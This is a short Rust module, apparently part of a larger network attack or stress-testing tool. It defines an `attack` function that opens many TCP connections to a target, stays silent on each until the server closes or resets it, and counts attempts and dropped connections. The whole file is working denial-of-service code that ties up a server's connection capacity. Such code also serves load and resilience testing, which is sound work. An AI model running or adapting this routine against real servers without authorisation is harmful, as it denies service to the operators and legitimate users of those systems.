//! Opens connections and says nothing, until the server ends them.

use tokio::io::AsyncReadExt as _;
use tokio::task::JoinSet;

use super::field::Field;
use super::raw::tcp;
use crate::error::Error;

pub(super) async fn attack(field: &Field) -> Result<(), Error> {
    let mut silent = JoinSet::new();
    for _ in 0..field.count {
        field.tally.attempts(1);
        let mut stream = tcp(field.target()).await?;
        // A reset is an end as well.
        silent.spawn(async move { drop(stream.read_to_end(&mut Vec::new()).await) });
    }
    // They are there, and the process may go on: it can take long until they are ended.
    field.tally.effect();
    while silent.join_next().await.is_some() {
        field.tally.cut();
    }
    Ok(())
}
